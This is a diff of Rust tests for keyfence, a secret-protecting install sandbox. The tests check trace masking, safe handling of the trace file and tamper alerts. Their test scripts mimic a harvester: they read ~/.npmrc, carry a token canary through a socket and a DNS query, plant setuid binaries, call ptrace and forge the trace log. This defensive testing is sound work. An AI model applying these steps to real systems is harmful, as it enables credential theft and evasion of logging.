@@ -715,8 +715,9 @@ fn trace_reports_what_the_install_sandbox_blocked() {
         &EVIL_HTTP.replace("PORT", &port.to_string()),
     );
     fx.project_file("package.json", r#"{"name": "app", "version": "1.0.0"}"#);
-    // In the project: the sandbox lets the tree write there (and keyfence, which is in it too).
-    let trace = fx.project.join("trace.jsonl");
+    // In the home, where the sandbox lets the tree write nothing (keyfence opens the file
+    // before it restricts itself), so the harvester cannot rewrite the record of what it did.
+    let trace = fx.home.join("trace.jsonl");
     let trace_arg = format!("--trace={}", trace.display());
     // The sandbox can only let the tree write beneath directories that exist when it starts.
     let cache = fx.home.join(".npm");
@@ -794,5 +795,386 @@ fn trace_reports_what_the_install_sandbox_blocked() {
             !text.contains(planted.as_str()),
             "a planted value is in the trace"
         );
+    }
+}
+
+/// #14: a value in a path reached the trace file and the summary in clear (`cd "d$KEY"`):
+/// every string field of every event is masked as argv is. The tree gets a canary for
+/// GITHUB_TOKEN (short enough for a Unix socket path) and puts it in a directory name (`cwd`), a
+/// program's name (`program`, `argv`), a `.env` file it writes (`open.path`,
+/// `secret-written.path`), a Unix socket path it connects and sends to (`connect.address`,
+/// `secret-sent.destination`), a DNS name (`dns.name`) and the npm package name a process
+/// carries (`group`, which heads the summary's lines); and in the notices on stderr: the path of
+/// a setuid program, and a process that names itself after 15 bytes of the value (all a
+/// process name holds) and then calls ptrace.
+#[test]
+fn trace_masks_a_value_in_every_field() {
+    let mut fx = Fixture::new();
+    let key = fx.key("github");
+    let trace = fx.dir.path().join("trace.jsonl");
+    let trace_arg = format!("--trace={}", trace.display());
+    let script = format!(
+        r#"v="$GITHUB_TOKEN"; printf %s "$v" > {out}/canary.txt
+d="$PWD/d$v"; mkdir "$d"; cd "$d"
+cp /bin/true "./$v"; chmod u+s "./$v"; "./$v"
+printf %s "$v" > .env
+npm_package_name="$v" npm_lifecycle_event=postinstall cat "$HOME/.npmrc" 2>/dev/null
+python3 -c '
+import os, socket
+v = os.environ["GITHUB_TOKEN"]
+srv = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); srv.bind("s" + v)
+socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).connect("s" + v)
+socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(v.encode(), "s" + v)
+q = bytes.fromhex("123401000001000000000000") + bytes([len(v)]) + v.encode() + b"\x07example\x00\x00\x01\x00\x01"
+socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ("127.0.0.1", 53))
+import ctypes
+libc = ctypes.CDLL(None)
+libc.prctl(15, v[:15].encode())
+libc.ptrace(0, 0, 0, 0)
+'"#,
+        out = fx.dir.path().display()
+    );
+    let r = fx.run(
+        &["run", "--canary", &trace_arg, "--", "sh", "-c", &script],
+        &[("GITHUB_TOKEN", &key)],
+    );
+    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
+    let canary = std::fs::read_to_string(fx.dir.path().join("canary.txt")).unwrap();
+    assert!(
+        canary.starts_with("ghp_") && canary != key,
+        "no canary given"
+    );
+    let (text, events) = read_trace(&trace);
+    r.assert_no_secret(&[key.clone(), canary.clone()]);
+    assert!(
+        !text.contains(&canary) && !text.contains(&key),
+        "a value is in the trace file"
+    );
+    let masked = "<keyfence:GITHUB_TOKEN>";
+    let has = |kind: &str, field: &str, want: &dyn Fn(&str) -> bool| {
+        events
+            .iter()
+            .any(|e| e["event"] == kind && e[field].as_str().is_some_and(want))
+    };
+    let dir = format!("/d{masked}");
+    assert!(has("exec", "cwd", &|v| v.ends_with(&dir)), "{events:?}");
+    assert!(
+        has("exec", "program", &|v| v
+            .ends_with(&format!("{dir}/{masked}"))),
+        "{events:?}"
+    );
+    assert!(
+        has("open", "path", &|v| v.ends_with(&format!("{dir}/.env"))),
+        "{events:?}"
+    );
+    assert!(
+        has("secret-written", "path", &|v| v
+            .ends_with(&format!("{dir}/.env"))),
+        "{events:?}"
+    );
+    assert!(
+        has("connect", "address", &|v| v == format!("unix:s{masked}")),
+        "{events:?}"
+    );
+    assert!(
+        has("secret-sent", "destination", &|v| v
+            == format!("unix:s{masked}")),
+        "{events:?}"
+    );
+    assert!(
+        has("secret-in-argv", "program", &|v| v == masked),
+        "{events:?}"
+    );
+    assert!(
+        has("dns", "name", &|v| v.starts_with("<keyfence:GITHUB_TOKEN")),
+        "{events:?}"
+    );
+    let group = format!("{masked} postinstall");
+    assert!(
+        has("open", "group", &|v| v == group) && has("exec", "group", &|v| v == group),
+        "{events:?}"
+    );
+    // The summary: the group that heads a paragraph, and the paths in its lines.
+    assert!(
+        r.stderr
+            .contains(&format!("keyfence: trace: {group}: read ~/.npmrc")),
+        "{}",
+        r.stderr
+    );
+    assert!(
+        r.stderr
+            .contains(&format!("keyfence: guard: ./{masked} is setuid/setgid")),
+        "{}",
+        r.stderr
+    );
+    assert!(
+        r.stderr
+            .contains(&format!("keyfence: guard: {masked} (pid ")),
+        "{}",
+        r.stderr
+    );
+    assert!(!r.stderr.contains(&canary[..15]), "{}", r.stderr);
+    assert!(
+        r.stderr.contains(&format!(
+            "wrote the canary for GITHUB_TOKEN to {}",
+            fx.project.join(format!("d{masked}/.env")).display()
+        )),
+        "{}",
+        r.stderr
+    );
+}
+
+/// Whether this runs as root with setpriv, to give files to another user and run as one.
+/// Without: fails when `CI` is set, and otherwise says the test is skipped.
+fn needs_root() -> bool {
+    if nix_is_root() && Path::new(AS_NOBODY[0]).exists() {
+        return true;
+    }
+    assert!(
+        std::env::var_os("CI").is_none(),
+        "this test needs root and setpriv (to give a file to another user, and run as one)"
+    );
+    eprintln!("not root: skipped");
+    false
+}
+
+fn mode(path: &Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::symlink_metadata(path)
+        .unwrap()
+        .permissions()
+        .mode()
+        & 0o7777
+}
+
+/// #14: the trace file was opened after keyfence had sandboxed itself, so `--trace=FILE` in a
+/// directory the sandbox keeps read-only (the home, on the way to ~/.aws) failed with EACCES.
+/// Opened first, it works, mode 0600, under the install profile and plain `--sandbox`; an
+/// existing file of the user's, world-readable, is emptied and tightened to 0600.
+#[test]
+fn trace_file_in_home_under_the_sandbox() {
+    use std::os::unix::fs::PermissionsExt;
+    let fx = Fixture::outside_tmp();
+    fx.home_file(".aws/credentials", "[default]\n");
+    let trace = fx.home.join("trace.jsonl");
+    let trace_arg = format!("--trace={}", trace.display());
+    // The built-in install profile; the tree itself still cannot write beside the file.
+    let r = fx.run(
+        &[
+            "run",
+            "--profile",
+            "install",
+            &trace_arg,
+            "--",
+            "sh",
+            "-c",
+            "echo ok; (echo x > \"$HOME/planted\") 2>/dev/null; true",
+        ],
+        &[],
+    );
+    assert_ne!(r.code, 125, "{}\n{}", r.stdout, r.stderr);
+    assert_eq!(r.stdout.trim(), "ok");
+    assert!(
+        !fx.home.join("planted").exists(),
+        "the sandbox let the tree write"
+    );
+    let (_, events) = read_trace(&trace);
+    assert_eq!(events[0]["event"], "exec", "{events:?}");
+    assert_eq!(mode(&trace), 0o600);
+    // Again over a file of the user's that others may read: emptied first, and 0600.
+    std::fs::write(&trace, "old line\n").unwrap();
+    std::fs::set_permissions(&trace, std::fs::Permissions::from_mode(0o644)).unwrap();
+    let r = fx.run(
+        &["run", "--sandbox", &trace_arg, "--", "sh", "-c", "echo ok"],
+        &[],
+    );
+    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
+    assert_eq!(mode(&trace), 0o600);
+    let text = std::fs::read_to_string(&trace).unwrap();
+    assert!(
+        !text.contains("old line") && text.contains("\"exec\""),
+        "{text}"
+    );
+}
+
+/// #14: a symbolic link at FILE (planted by the tree of an earlier run, or by another user in a
+/// shared directory) made keyfence write, as the user, wherever it pointed, and truncate that
+/// file. Refused, naming the path, and the target is left as it was; a link to a file that does
+/// not exist yet does not create it.
+#[test]
+fn trace_refuses_a_symlink_at_the_file() {
+    let fx = Fixture::new();
+    let target = fx.home.join("precious.txt");
+    std::fs::write(&target, "keep me\n").unwrap();
+    let link = fx.dir.path().join("trace.jsonl");
+    std::os::unix::fs::symlink(&target, &link).unwrap();
+    let dangling = fx.dir.path().join("dangling.jsonl");
+    let absent = fx.home.join("absent.txt");
+    std::os::unix::fs::symlink(&absent, &dangling).unwrap();
+    for path in [&link, &dangling] {
+        let trace_arg = format!("--trace={}", path.display());
+        let r = fx.run(&["run", &trace_arg, "--", "sh", "-c", "echo ran"], &[]);
+        assert_eq!(r.code, 125, "{}\n{}", r.stdout, r.stderr);
+        assert!(!r.stdout.contains("ran"), "the command ran: {}", r.stdout);
+        assert!(
+            r.stderr.contains(&path.display().to_string())
+                && r.stderr.contains("symbolic link")
+                && r.stderr.contains("hint:"),
+            "{}",
+            r.stderr
+        );
+    }
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "keep me\n");
+    assert!(!absent.exists(), "the link's target was created");
+}
+
+/// #14: a FILE that belongs to another user (root writing into a user's file, or a file another
+/// user left in a shared directory for keyfence to fill) is refused and left as it was.
+#[test]
+fn trace_refuses_a_file_of_another_user() {
+    use std::os::unix::fs::PermissionsExt;
+    if !needs_root() {
+        return;
+    }
+    let fx = Fixture::new();
+    let theirs = fx.dir.path().join("trace.jsonl");
+    std::fs::write(&theirs, "theirs\n").unwrap();
+    let st = Command::new("chown")
+        .args(["65534:65534"])
+        .arg(&theirs)
+        .status()
+        .unwrap();
+    assert!(st.success());
+    let trace_arg = format!("--trace={}", theirs.display());
+    let r = fx.run(&["run", &trace_arg, "--", "sh", "-c", "echo ran"], &[]);
+    assert_eq!(r.code, 125, "{}\n{}", r.stdout, r.stderr);
+    assert!(!r.stdout.contains("ran"), "the command ran: {}", r.stdout);
+    assert!(
+        r.stderr.contains(&theirs.display().to_string())
+            && r.stderr.contains("another user")
+            && r.stderr.contains("hint:"),
+        "{}",
+        r.stderr
+    );
+    assert_eq!(std::fs::read_to_string(&theirs).unwrap(), "theirs\n");
+    // The other way round, as an ordinary user: a file another user left writable by all in a
+    // directory they share, for keyfence to fill and its owner to read.
+    assert!(fx.hand_to_nobody());
+    let planted = fx.project.join("trace.jsonl");
+    std::fs::write(&planted, "").unwrap();
+    std::fs::set_permissions(&planted, std::fs::Permissions::from_mode(0o666)).unwrap();
+    let trace_arg = format!("--trace={}", planted.display());
+    // As `run_unprivileged` does, without handing the fixture (and so the file) to nobody again.
+    let r = Run::from(
+        Command::new(AS_NOBODY[0])
+            .args(&AS_NOBODY[1..])
+            .arg(BIN)
+            .arg("--etc")
+            .arg(&fx.etc)
+            .args(["run", &trace_arg, "--", "sh", "-c", "echo ran"])
+            .current_dir(&fx.project)
+            .env_clear()
+            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+            .env("HOME", &fx.home)
+            .output()
+            .unwrap(),
+    );
+    assert_eq!(r.code, 125, "{}\n{}", r.stdout, r.stderr);
+    assert!(r.stderr.contains("another user (uid 0)"), "{}", r.stderr);
+    assert_eq!(std::fs::read_to_string(&planted).unwrap(), "");
+}
+
+/// A command runs as the same user: where it may write, it can rewrite the trace file to hide
+/// what it did (here: it reads ~/.npmrc, then overwrites the file with one harmless line, or
+/// deletes it and leaves one in its place). keyfence checks the file at the end and raises an
+/// alert; kept in the home under the sandbox, the rewrite fails and the record stands.
+#[test]
+fn trace_tells_when_the_command_rewrote_the_file() {
+    let fx = Fixture::outside_tmp();
+    fx.home_file(".npmrc", "registry=https://registry.npmjs.org/\n");
+    // Rewritten in place, or deleted and written anew (keyfence's own writes then go to the
+    // deleted file). Rewritten in place, the forgery must outgrow what keyfence writes at its
+    // own offset afterwards: it buries the record under harmless events.
+    let rewrite = "cat ~/.npmrc > /dev/null; \
+                   (yes '{\"event\":\"exec\",\"pid\":1,\"group\":\"sh\"}' | head -n 2000 > \"$TRACE\") 2>/dev/null; true";
+    let replace = "cat ~/.npmrc > /dev/null; \
+                   (rm -f \"$TRACE\" && echo '{\"event\":\"exec\"}' > \"$TRACE\") 2>/dev/null; true";
+    for (dir, options, forge) in [
+        (&fx.project, &[][..], rewrite),
+        (&fx.project, &[][..], replace),
+        (&fx.home, &["--sandbox"][..], rewrite),
+        (&fx.home, &["--sandbox"][..], replace),
+    ] {
+        let trace = dir.join("trace.jsonl");
+        let trace_arg = format!("--trace={}", trace.display());
+        let mut args = vec!["run"];
+        args.extend(options);
+        args.extend([&trace_arg, "--", "sh", "-c", forge]);
+        let r = fx.run(&args, &[("TRACE", trace.to_str().unwrap())]);
+        assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
+        let alert = r.stderr.contains(
+            "ALERT: something other than keyfence wrote to, moved or replaced the trace file",
+        );
+        let (_, events) = read_trace_lossy(&trace);
+        let read_npmrc = events
+            .iter()
+            .any(|e| e["path"].as_str().is_some_and(|p| p.ends_with("/.npmrc")));
+        if options.is_empty() {
+            assert!(alert, "{}", r.stderr);
+        } else {
+            assert!(!alert && read_npmrc, "{}\n{events:?}", r.stderr);
+        }
+    }
+}
+
+/// A trace file's events, skipping lines that are not JSON (what a rewrite left, say).
+fn read_trace_lossy(path: &Path) -> (String, Vec<serde_json::Value>) {
+    let text = String::from_utf8_lossy(&std::fs::read(path).unwrap()).into_owned();
+    let events = text
+        .lines()
+        .filter_map(|l| serde_json::from_str(l.trim_matches('\0')).ok())
+        .collect();
+    (text, events)
+}
+
+/// #14: guard alone (no trace) printed a setuid program's path and a process's name in its
+/// notices as given: a command holding an injected key could put it on keyfence's stderr (a CI
+/// log) by naming a program after it, or 15 bytes of it by naming a process.
+#[test]
+fn guard_notices_mask_a_protected_value() {
+    let mut fx = Fixture::new();
+    let key = fx.key("github");
+    fx.store_secret("GITHUB_TOKEN", &key);
+    // The command itself holds the key (its descendants do not, under guard).
+    let script = r#"
+import ctypes, os, shutil, subprocess
+v = os.environ["GITHUB_TOKEN"]
+shutil.copy("/bin/true", v)
+os.chmod(v, 0o4755)
+subprocess.run(["./" + v])
+libc = ctypes.CDLL(None)
+libc.prctl(15, v[4:19].encode())
+libc.ptrace(0, 0, 0, 0)
+"#;
+    let r = fx.run(
+        &[
+            "run",
+            "--guard",
+            "--inject",
+            "GITHUB_TOKEN",
+            "--",
+            "python3",
+            "-c",
+            script,
+        ],
+        &[],
+    );
+    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
+    assert!(!r.stderr.contains(&key[4..19]), "{}", r.stderr);
+    for notice in [
+        "keyfence: guard: ./<keyfence:GITHUB_TOKEN> is setuid/setgid",
+        "keyfence: guard: <keyfence:GITHUB_TOKEN> (pid ",
+    ] {
+        assert!(r.stderr.contains(notice), "{notice}: {}", r.stderr);
     }
 }
